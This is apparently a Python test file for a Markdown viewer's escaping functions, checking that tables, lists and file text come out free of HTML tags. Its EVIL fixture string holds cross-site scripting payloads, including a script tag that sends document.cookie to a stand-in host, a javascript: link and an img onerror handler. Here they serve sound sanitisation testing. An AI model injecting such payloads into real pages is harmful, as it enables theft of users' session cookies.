"""Text of files in Markdown: it is shown as it is, without tags."""

from html.parser import HTMLParser

from home_mjx.viewer.browser.markdown import escape_markdown, format_list, format_table

EVIL = (
    "<script>fetch('//x?'+document.cookie)</script> **[a](javascript:b)** `c` | {d} &amp; \\e <img src=x onerror=f()>"
)


class Reader(HTMLParser):
    """Reader of a page that collects its tags and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags, self.text = list[str](), ""

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text += data


def read(page: str) -> Reader:
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader


def test_text_of_files_has_no_tags_and_stays_whole():
    assert read(EVIL).tags == ["script", "img"]
    reader = read(escape_markdown(EVIL))
    assert not reader.tags
    assert reader.text == EVIL
    assert not set("<>*[]`|{}\\") & set(escape_markdown(EVIL))
    assert "\n" not in escape_markdown("a\n\n# b")


def test_tables_and_lists_of_events_escape_their_text():
    table = format_table({EVIL: EVIL})
    assert not read(table).tags
    assert table.splitlines()[-1].count("|") == 3
    lines = format_list([(EVIL, EVIL, True), (4, "touches\n\n<b>", False)])
    assert not read(lines).tags
    assert lines.splitlines()[1:] == ["- 4 touches &#60;b&#62;"]
